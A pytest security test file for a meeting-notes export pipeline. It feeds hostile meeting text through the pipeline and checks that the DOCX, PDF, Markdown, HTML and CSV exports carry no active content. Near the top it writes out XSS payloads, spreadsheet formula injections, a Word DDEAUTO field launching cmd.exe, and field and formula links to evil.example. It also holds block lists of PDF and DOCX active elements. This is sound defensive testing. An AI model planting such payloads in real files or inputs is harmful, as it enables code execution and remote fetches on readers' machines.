"""Exports are safe to open: no active content in DOCX or PDF, no script in any Markdown or HTML summary.

A day runs with hostile text everywhere a meeting lets someone put text: the title and participants of an
inbox meeting (its sidecar), the transcript lines its decisions cite, and a Teams meeting's subject and
transcript. Payloads: <script>, event-handler attributes, javascript: links (HTML and Markdown), Word
field codes (DDEAUTO, INCLUDETEXT), spreadsheet formulas, and a control character XML cannot hold. Every
file the day exported is then opened the way a reader's program would: the DOCX package part by part,
the PDF's catalogue and annotations, the Markdown rendered to HTML (raw HTML allowed, as most viewers
do), the Teams summary as HTML. The CSV the evaluation writes is checked for formulas.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pypdf
import pytest
from markdown_it import MarkdownIt

from bridge_fakes import FakeGraphServer, FakeTeamsMeeting
from bridge_fakes.transcripts import DIALOGUES, Dialogue, Line, teams_vtt
from bridge_pipeline import pipeline
from bridge_pipeline.evaluate import EvaluationReport, write_csv
from bridge_pipeline.extraction.evaluation import MeetingScore
from bridge_pipeline.extraction.offline import OfflineExtractor
from bridge_pipeline.notifications import NotificationSettings, SourceOptIn, TeamsChatClient, notify_day
from bridge_pipeline.sources.inbox import InboxSource
from bridge_pipeline.sources.teams import GraphSource
from bridge_pipeline.storage.blobs import LocalBlobStore
from bridge_pipeline.storage.store import PipelineStore
from bridge_pipeline_tests.http.fast_settings import FAST_HTTP
from bridge_pipeline_tests.line_fixtures import SAMPLE_INBOX

DAY = dt.date(2026, 5, 14)
UTC = dt.timezone.utc
SCRIPT = "<script>alert('bridge')</script>"
ONERROR = "<img src=x onerror=alert(1)>"
SVG = "<svg/onload=alert(4)>"
MD_LINK = "[open the file](javascript:alert(2))"
HTML_LINK = '<a href="javascript:alert(3)">here</a>'
FORMULA = "=cmd|' /C calc'!A0"
FORMULA_FILE = "=cmd|' -C calc'!A0 call"  # the same in a file name (no slash)
HYPERLINK_FORMULA = '=HYPERLINK("http://evil.example/x","total")'
DDE = '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'
INCLUDE = '{ INCLUDETEXT "http://evil.example/remote.docx" }'
HOSTILE = f"{SCRIPT} {ONERROR} {SVG} {MD_LINK} {HTML_LINK} javascript:alert(5) {FORMULA} {DDE} {INCLUDE}"
# Characters XML 1.0 cannot carry at all: a writer that lets them through makes a DOCX Word refuses to open.
CONTROL = "\x07\x0b"
ORGANIZER = "8b081ef6-4792-4def-b2c9-c363a1bf41d5"
SERVICE_ACCOUNT = "3d2f6a1e-9b7c-4e55-8a10-5c6d7e8f9a0b"
LINK_BASE = "https://files.example/bridge"


def _hostile_vendor_call(inbox: Path) -> None:
    """The sample NDA/SOW call, its cited agreements carrying the payloads, its sidecar too."""
    folder = inbox / DAY.isoformat()
    folder.mkdir(parents=True)
    vtt = (SAMPLE_INBOX / DAY.isoformat() / "vendor-call-nordlicht-kowalczyk.vtt").read_text(encoding="utf-8")
    for agreed in ("Agreed, mutual it is.", "Three years of confidentiality, confirmed."):
        assert agreed in vtt
        vtt = vtt.replace(agreed, f"{agreed} {HOSTILE}")
    (folder / f"{FORMULA_FILE}.vtt").write_text(vtt, encoding="utf-8")
    sidecar = SAMPLE_INBOX / DAY.isoformat() / "vendor-call-nordlicht-kowalczyk.meta.json"
    meta = json.loads(sidecar.read_text(encoding="utf-8"))
    # (The WebVTT parser drops tags from cue text, so the tag payloads reach the exports through the sidecar.)
    meta["title"] = f"{SCRIPT} {ONERROR} {HYPERLINK_FORMULA} {MD_LINK}{CONTROL} Nordlicht × Kowalczyk"
    meta["participants"] = [*meta["participants"], f"Mallory {SVG}{CONTROL}", f"{FORMULA}"]
    (folder / f"{FORMULA_FILE}.meta.json").write_text(json.dumps(meta), encoding="utf-8")


def _hostile_teams_meeting() -> FakeTeamsMeeting:
    base = DIALOGUES[0]
    lines = tuple(Line(line.speaker, f"{line.text} {HOSTILE}" if "agree" in line.text.lower() else line.text)
                  for line in base.lines)
    dialogue = Dialogue(base.key, f"{SCRIPT} {HTML_LINK} NDA", lines)
    return FakeTeamsMeeting(ORGANIZER, dialogue.title, dt.datetime(2026, 5, 14, 13, tzinfo=UTC), teams_vtt(dialogue),
                            key="security/hostile-teams")


@dataclass
class HostileDay:
    root: Path
    store: PipelineStore

    def files(self, suffix: str) -> list[Path]:
        found = sorted((self.root / "exports" / DAY.isoformat()).rglob(f"*{suffix}"))
        assert found, f"the day exported no {suffix} file"
        return found


@pytest.fixture(scope="module")
def day(tmp_path_factory) -> Iterator[HostileDay]:
    tmp = tmp_path_factory.mktemp("hostile")
    _hostile_vendor_call(tmp / "inbox")
    store = PipelineStore(f"sqlite:///{tmp / 'bridge.sqlite3'}")
    store.migrate()
    blobs = LocalBlobStore(tmp / "data")
    with FakeGraphServer() as graph:
        graph.add_organizer(ORGANIZER, "mara.lindqvist@brightwater.example")
        graph.add_meeting(_hostile_teams_meeting())
        refresh_token = graph.add_service_account(SERVICE_ACCOUNT, "bridge-notes@brightwater.example")
        teams = GraphSource(graph.source_settings(http=FAST_HTTP, organizer_ids=(ORGANIZER,)))
        poster = TeamsChatClient(graph.chat_sender_settings(refresh_token, http=FAST_HTTP))
        try:
            pipeline.ingest_day(DAY, [InboxSource(tmp / "inbox"), teams], store, blobs, "UTC")
            pipeline.parse_day(DAY, store, blobs)
            pipeline.extract_day(DAY, store, OfflineExtractor(), "UTC")
            pipeline.draft_day(DAY, store, "UTC")
            pipeline.qa_day(DAY, store)
            pipeline.export_day(DAY, store, blobs)
            settings = NotificationSettings(teams=SourceOptIn(enabled=True, organizers=("*",)), dry_run=True,
                                            export_link_base=LINK_BASE)
            report = notify_day(DAY, store, blobs, settings, {"teams": poster})
            assert report.counts()["dry_run"] == 1
        finally:
            teams.close()
            poster.close()
    assert {m.source for m in store.load_meetings(DAY)} == {"inbox", "teams"}
    yield HostileDay(tmp / "data", store)
    store.dispose()


def test_the_hostile_text_reached_the_exports(day):
    # Otherwise the checks below would pass for want of anything to check.
    markdown = "\n".join(p.read_text(encoding="utf-8") for p in day.files(".md"))
    assert "alert('bridge')" in markdown and "DDEAUTO" in markdown and "onerror" in markdown
    assert "=cmd" in markdown and "=HYPERLINK" in markdown
    documents = "\n".join(_part(p, "word/document.xml") for p in day.files(".docx"))
    assert "&lt;script&gt;" in documents and "INCLUDETEXT" in documents
    (summary,) = day.files(".teams.html")
    assert "alert(&#x27;bridge&#x27;)" in summary.read_text(encoding="utf-8")


# --- DOCX ---------------------------------------------------------------------------------------------

# Content types of macro-enabled documents and templates, VBA, ActiveX, OLE objects and embedded packages.
_ACTIVE_CONTENT_TYPES = re.compile(
    r"macroEnabled|vbaProject|vbaData|activeX|oleObject|officedocument\.package|ms-office\.", re.I
)
_ACTIVE_PARTS = re.compile(r"(vbaProject|vbaData|activeX|embeddings/|oleObject|\.bin$)", re.I)
_ACTIVE_ELEMENTS = (
    "object", "control", "OLEObject", "altChunk", "subDoc", "attachedTemplate", "fldSimple", "hyperlink",
)
_ALLOWED_FIELDS = {"PAGE", "NUMPAGES"}


def _part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as package:
        return package.read(name).decode("utf-8")


@pytest.mark.parametrize("suffix", [".docx"])
def test_docx_has_no_macros_ole_external_relationships_or_field_codes(day, suffix):
    for path in day.files(suffix):
        with zipfile.ZipFile(path) as package:
            names = package.namelist()
            assert not [n for n in names if _ACTIVE_PARTS.search(n)], (path.name, names)
            types = ElementTree.fromstring(package.read("[Content_Types].xml"))
            content_types = [element.get("ContentType", "") for element in types]
            assert not [t for t in content_types if _ACTIVE_CONTENT_TYPES.search(t)], (path.name, content_types)
            for name in names:
                if not name.endswith((".xml", ".rels")):
                    continue
                text = package.read(name).decode("utf-8")
                # Every part must parse: a control character in it is a file Word will not open.
                root = ElementTree.fromstring(text)
                if name.endswith(".rels"):
                    for rel in root:
                        # No remote template, image or linked file: nothing is fetched when the file opens.
                        assert rel.get("TargetMode") != "External", (path.name, name, rel.attrib)
                        assert not re.match(r"[a-z][a-z0-9+.-]*:", rel.get("Target", ""), re.I), (path.name, rel.attrib)
                        assert "attachedTemplate" not in rel.get("Type", ""), (path.name, rel.attrib)
                    continue
                local_names = {element.tag.rsplit("}", 1)[-1] for element in root.iter()}
                assert not local_names & set(_ACTIVE_ELEMENTS), (path.name, name, local_names & set(_ACTIVE_ELEMENTS))
                instructions = ["".join(e.itertext()).split() for e in root.iter() if e.tag.endswith("}instrText")]
                fields = {words[0] for words in instructions if words}
                assert fields <= _ALLOWED_FIELDS, (path.name, name, fields)


def test_docx_runs_hold_the_hostile_text_as_text(day):
    # A field only exists between fldChar begin/end runs; typed braces in a text run are just characters.
    for path in day.files(".docx"):
        document = ElementTree.fromstring(_part(path, "word/document.xml"))
        begins = [e for e in document.iter() if e.tag.endswith("}fldChar")]
        assert begins == [], path.name  # the body has no fields at all (PAGE and NUMPAGES live in the footer)


# --- PDF ----------------------------------------------------------------------------------------------

_PDF_ACTIVE_KEYS = {"/JavaScript", "/JS", "/Launch", "/OpenAction", "/AA", "/EmbeddedFile", "/EmbeddedFiles",
                    "/RichMedia", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/XFA", "/AcroForm"}


def _pdf_keys(node, seen: set[int], found: set[str], uris: list[str]) -> None:
    if isinstance(node, pypdf.generic.IndirectObject):
        if node.idnum in seen:
            return
        seen.add(node.idnum)
        node = node.get_object()
    if isinstance(node, pypdf.generic.DictionaryObject):
        for key, value in node.items():
            found.add(key)
            if key == "/URI":
                uris.append(str(value))
            if key != "/Parent":
                _pdf_keys(value, seen, found, uris)
    elif isinstance(node, pypdf.generic.ArrayObject):
        for value in node:
            _pdf_keys(value, seen, found, uris)


def test_pdf_has_no_javascript_actions_embedded_files_or_script_links(day):
    for path in day.files(".pdf"):
        reader = pypdf.PdfReader(path)
        found: set[str] = set()
        uris: list[str] = []
        _pdf_keys(reader.trailer["/Root"], set(), found, uris)
        assert not found & _PDF_ACTIVE_KEYS, (path.name, found & _PDF_ACTIVE_KEYS)
        assert all(uri.startswith("https://") for uri in uris), (path.name, uris)


# --- Markdown and HTML --------------------------------------------------------------------------------

_MARKDOWN_TAGS = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "ul", "ol",
                  "li", "em", "strong", "code", "pre", "blockquote", "hr", "br", "del", "s", "ins"}
_TEAMS_TAGS = {"p", "b", "i", "br", "ul", "li", "a", "code"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _unsafe(html: str, allowed: set[str]) -> list[str]:
    parser = _Tags()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.tags:
        if tag not in allowed:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "xlink:href") and not (value or "").startswith(("https://", "#")):
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


def test_markdown_renders_without_any_tag_or_link_the_meeting_put_there(day):
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    for path in day.files(".md"):
        html = renderer.render(path.read_text(encoding="utf-8"))
        assert _unsafe(html, _MARKDOWN_TAGS) == [], path.name
        assert "<a " not in html, path.name  # the exports link nowhere, so any link came from a meeting


def test_teams_summary_html_has_only_its_own_tags_and_https_links(day):
    (path,) = day.files(".teams.html")
    html = path.read_text(encoding="utf-8")
    assert _unsafe(html, _TEAMS_TAGS) == []
    parser = _Tags()
    parser.feed(html)
    links = [dict(attrs)["href"] for tag, attrs in parser.tags if tag == "a"]
    assert links and all(link.startswith(LINK_BASE + "/exports/") for link in links), links


def test_no_text_export_holds_a_control_character(day):
    for suffix in (".md", ".json", ".teams.html"):
        for path in day.files(suffix):
            text = path.read_text(encoding="utf-8")
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text), path.name


# --- CSV ----------------------------------------------------------------------------------------------


def test_evaluation_csv_cells_never_start_a_formula(tmp_path):
    # The evaluation names rows after the labelled meetings' folder names, which anyone preparing data chooses.
    hostile = [FORMULA, HYPERLINK_FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "ordinary-meeting"]
    scores = [MeetingScore(name, 1, 1, 1, 0, 2, 1, 1) for name in hostile]
    report = EvaluationReport(extractor="offline", meetings=scores)
    path = tmp_path / "evaluation.csv"
    write_csv(report, path)
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    names = [row["name"] for row in rows if row["level"] == "meeting"]
    # Still readable as the name it was: one leading apostrophe, which spreadsheets hide.
    assert [n.removeprefix("'") for n in names] == hostile and "ordinary-meeting" in names
